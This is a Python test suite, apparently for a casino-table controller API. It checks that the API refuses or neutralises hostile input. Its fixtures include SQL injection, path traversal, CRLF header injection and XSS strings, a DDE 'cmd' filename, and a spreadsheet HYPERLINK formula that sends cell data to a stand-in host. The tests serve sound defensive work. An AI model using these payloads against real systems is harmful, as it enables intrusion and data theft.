"""Hostile input at the API: SQL in every parameter, paths and NUL bytes in names, uploads of
the wrong kind or size, formulas for spreadsheets, and line breaks for response headers.

The routes and their parameters are found by walking the application, so a parameter added
later gets the same treatment.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import httpx
from fastapi import routing
from fastapi.routing import APIRoute
from sqlalchemy import select

from app.web import create_app
from controller.core.games import Game
from controller.paperwork.documents import MAX_DOCUMENT_BYTES
from controller.paperwork.export import FORMULA_STARTS
from controller.roles import Role
from controller.storage.models import DocumentRow
from tests.app.auth import headers_for
from tests.app.floor import settings_in, web_floor
from tests.integration.harness import wait_until

ONE_LINK = {"stud": (Game.CARIBBEAN_STUD, 1)}
KNOWN = {"link_id": "stud", "table_id": "stud-1", "kind": "history"}
HOSTILE = [
    "' OR '1'='1",
    "stud' OR 1=1 --",
    'stud" OR ""="',
    "stud'; DROP TABLE meter_entries; --",
    "stud' UNION SELECT username, password_hash FROM users --",
    "1) OR (1=1",
    "../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "stud\x00' OR 1=1",
    "stud\r\nSet-Cookie: owned=1",
    "%27%20OR%201%3D1",
    "x" * 5000,
]
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"refund")'
PDF = b"%PDF-1.4 supporting document"


def _api_gets(app: object) -> list[tuple[str, list[str], list[str]]]:
    """(path, query parameters, path parameters) of every GET route under /api/."""
    found = []
    for route in routing.iter_route_contexts(app.routes):  # type: ignore[attr-defined]
        original = route.original_route
        if isinstance(original, APIRoute) and "GET" in route.methods and route.path[:5] == "/api/":
            found.append(
                (
                    route.path,
                    [p.alias for p in route.dependant.query_params],
                    [p.alias for p in route.dependant.path_params],
                )
            )
    return found


def _path(template: str, values: dict[str, str]) -> str:
    return re.sub(r"\{([^}:]+)\}", lambda m: values.get(m.group(1), "nothing"), template)


async def test_sql_and_paths_in_every_parameter_change_nothing(tmp_path: Path, db_url: str) -> None:
    settings = settings_in(tmp_path).model_copy(update={"database_url": db_url})
    async with (
        web_floor(tmp_path, links=ONE_LINK, settings=settings) as wf,
        httpx.AsyncClient(base_url=wf.base_url, timeout=60) as http,
    ):
        # A supervisor reads every record an auditor does, and more.
        sup = await headers_for(wf, Role.SUPERVISOR)
        admin = await headers_for(wf, Role.ADMIN)
        gets = _api_gets(create_app(wf.service))
        assert any(p == "/api/v1/exports/{kind}" for p, _, _ in gets)
        problems: list[str] = []
        tried = 0
        for template, queries, paths in gets:
            admins = ("/api/v1/users", "/api/v1/device", "/api/v1/account-requests")
            headers = admin if template.startswith(admins) else sup
            base = _path(template, KNOWN)
            for name in queries:
                for bad in HOSTILE:
                    answer = await http.get(base, params={name: bad}, headers=headers)
                    tried += 1
                    problems += _judge(f"{template}?{name}={bad[:40]!r}", answer)
            for name in paths:
                for bad in HOSTILE:
                    if "\x00" in bad or "\r" in bad:
                        continue  # not sendable in a path; the query parameters carry these
                    # Percent-encoded whole, as a browser sends a value that holds "/".
                    url = _path(template, {**KNOWN, name: quote(bad, safe="")})
                    answer = await http.get(url, headers=headers)
                    tried += 1
                    problems += _judge(f"{template} {name}={bad[:40]!r}", answer)
        # Text with a NUL in a body: refused as input on either database, never a 500.
        tech = await headers_for(wf, Role.TECHNICIAN)
        bodies = [
            ("/api/v1/auth/token", {"data": {"username": "ada\x00", "password": "x"}}, {}),
            (
                "/api/v1/links/stud/corrections",
                {"data": {"delta_cents": "1", "category": "malfunction", "reason": "a\x00b"}},
                sup,
            ),
            (
                "/api/v1/tables/stud-1/integrity-records",
                {
                    "json": {
                        "questioned_at_us": 1,
                        "device_type": "table\u0000controller",
                        "commission_registration_number": "IGC-1",
                        "malfunction_reason": "sensor",
                    }
                },
                tech,
            ),
        ]
        for url, body, headers in bodies:
            answer = await http.post(url, headers=headers, **body)  # type: ignore[arg-type]
            tried += 1
            # Refused on PostgreSQL; SQLite keeps the text as typed. Either way no 500.
            if answer.status_code >= 500:
                problems.append(f"POST {url} with a NUL: {answer.status_code} {answer.text[:200]}")
        assert tried > 200
        assert not problems, "\n".join(problems)
        # Everything is still there.
        assert (await http.get("/api/v1/links/stud", headers=sup)).status_code == 200
        assert (await http.get("/api/v1/exports/history", headers=sup)).status_code == 200


def _judge(where: str, answer: httpx.Response) -> list[str]:
    """A hostile value names nothing: refused (400, 404, 422), or an empty answer; never a 500,
    never rows it selected, never a header it wrote."""
    if answer.status_code in (400, 404, 422):
        return []
    if "set-cookie" in answer.headers:
        return [f"{where}: a header was injected"]
    if answer.status_code != 200:
        return [f"{where}: {answer.status_code} {answer.text[:200]}"]
    kind = answer.headers.get("content-type", "")
    if kind.startswith("application/json") and answer.json() in ([], {}):
        return []
    return [f"{where}: 200 with data {answer.text[:200]!r}"]


async def test_hostile_uploads_are_refused_or_made_harmless(tmp_path: Path) -> None:
    async with (
        web_floor(tmp_path, links=ONE_LINK) as wf,
        httpx.AsyncClient(base_url=wf.base_url, timeout=60) as http,
    ):
        sup = await headers_for(wf, Role.SUPERVISOR)
        auditor = await headers_for(wf, Role.AUDITOR)
        url = "/api/v1/links/stud/corrections"
        form = {"delta_cents": "-100", "category": "malfunction", "reason": "meter ran on"}

        async def upload(name: str, content: bytes, kind: str) -> httpx.Response:
            return await http.post(
                url, data=form, files={"document": (name, content, kind)}, headers=sup
            )

        names = [
            "../../../../etc/passwd",
            "/etc/passwd",
            "C:\\Windows\\system32\\config\\SAM",
            "..\\..\\boot.ini",
            "report\x00.pdf.exe",
            "a" * 200 + ".pdf",
            'x.pdf"\r\nSet-Cookie: owned=1\r\nX-Evil: "',
            "=cmd|' /C calc'!A0.pdf",
            "../..",
        ]
        stored: list[str] = []
        for i, name in enumerate(names):
            answer = await upload(name, PDF + str(i).encode(), "application/pdf")
            assert answer.status_code == 201, f"{name[:40]!r}: {answer.text}"
            digest = answer.json()["document_sha256"]
            async with wf.service.engine.connect() as conn:
                kept = await conn.scalar(
                    select(DocumentRow.filename).where(DocumentRow.sha256 == digest)
                )
            assert kept is not None
            assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,99}", kept), repr(kept)
            assert ".." not in kept and "/" not in kept and "\\" not in kept
            stored.append(kept)
            got = await http.get(f"/api/v1/documents/{digest}", headers=auditor)
            assert got.status_code == 200 and got.content == PDF + str(i).encode()
            disposition = got.headers["content-disposition"]
            assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._ -]+"', disposition), (
                disposition
            )
            assert "set-cookie" not in got.headers and "x-evil" not in got.headers
        assert stored[0] == "passwd" and stored[-1] == "document"
        assert len(stored[5]) == 100
        # A name that hides what the file is, or longer than a file system keeps, is refused.
        for name, rule in (
            ("rapport é\u202etxt.pdf", "U+202E RIGHT-TO-LEFT OVERRIDE"),
            ("invoice\u200b.pdf", "U+200B ZERO WIDTH SPACE"),
            ("a" * 1_000 + ".pdf", "at most 255 characters"),
        ):
            answer = await upload(name, PDF + b"hidden", "application/pdf")
            assert answer.status_code == 422, f"{name[:40]!r}: {answer.text}"
            problem = answer.json()["detail"]["problems"][0]
            assert problem["where"] == "body.document" and rule in problem["problem"], problem
        # A name longer than a multipart header may be is refused whole.
        long = await upload("a" * 100_000 + ".pdf", PDF + b"long", "application/pdf")
        assert long.status_code == 400, long.text
        # A part without a file name is no document.
        nameless = await upload("", PDF + b"nameless", "application/pdf")
        assert nameless.status_code == 422, nameless.text

        refused = {
            "an executable": ("tool.exe", b"MZ\x90\x00", "application/x-msdownload"),
            "HTML": ("page.html", b"<script>alert(1)</script>", "text/html"),
            "SVG": ("i.svg", b"<svg onload=alert(1)>", "image/svg+xml"),
            "a PDF that is not": ("r.pdf", b"<script>alert(1)</script>", "application/pdf"),
            "a PNG that is not": ("r.png", b"GIF89a", "image/png"),
            "text not UTF-8": ("r.txt", b"\xff\xfe\x00bad", "text/plain"),
            "empty": ("r.pdf", b"", "application/pdf"),
            "no type": ("r.pdf", PDF, ""),
            "over the limit": ("big.pdf", PDF + b"0" * MAX_DOCUMENT_BYTES, "application/pdf"),
        }
        for why, (name, content, kind) in refused.items():
            answer = await upload(name, content, kind)
            assert answer.status_code == 422, f"{why}: {answer.status_code} {answer.text[:200]}"
            assert answer.json()["detail"]["problems"][0]["where"] == "body.document", why

        # A text document is served as an attachment the browser may not sniff into a page.
        answer = await upload("notes.txt", b"<script>alert(1)</script>", "text/plain")
        assert answer.status_code == 201
        got = await http.get(
            f"/api/v1/documents/{answer.json()['document_sha256']}", headers=auditor
        )
        assert got.headers["content-type"].startswith("text/plain")
        assert got.headers["content-disposition"].startswith("attachment;")
        assert got.headers["x-content-type-options"] == "nosniff"


async def test_no_csv_cell_the_api_serves_starts_a_formula(tmp_path: Path) -> None:
    async with (
        web_floor(tmp_path, links=ONE_LINK) as wf,
        httpx.AsyncClient(base_url=wf.base_url, timeout=60) as http,
    ):
        sup = await headers_for(wf, Role.SUPERVISOR)
        sup2 = await headers_for(wf, Role.SUPERVISOR)
        auditor = await headers_for(wf, Role.AUDITOR)
        await wait_until(lambda: wf.service.table_status("stud-1").state == "online")
        # Formulas wherever a person types text that reaches a record.
        asked = await http.post(
            "/api/v1/links/stud/corrections",
            data={"delta_cents": "-100", "category": "malfunction", "reason": FORMULA},
            files={"document": (FORMULA + ".pdf", PDF, "application/pdf")},
            headers=sup,
        )
        assert asked.status_code == 201, asked.text
        approved = await http.post(
            f"/api/v1/corrections/{asked.json()['request_id']}/approve", headers=sup2
        )
        assert approved.status_code == 200, approved.text

        served: dict[str, str] = {}
        # From before the floor opened (a period is at most five years and a week long).
        since = {"since": (datetime.now(UTC) - timedelta(days=30)).date().isoformat()}
        for kind in ("history", "hits", "reductions"):
            answer = await http.get(f"/api/v1/exports/{kind}", params=since, headers=auditor)
            assert answer.status_code == 200, answer.text
            served[kind] = answer.text
        answer = await http.get(
            "/api/v1/links/stud/reconciliation/export",
            params=since,
            headers=auditor,
        )
        served["reconciliation"] = answer.text
        assert "HYPERLINK" in served["reductions"]
        problems = [
            f"{name}: {cell!r}"
            for name, text in served.items()
            for row in csv.reader(io.StringIO(text))
            for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+", cell)
        ]
        assert not problems, "\n".join(problems)
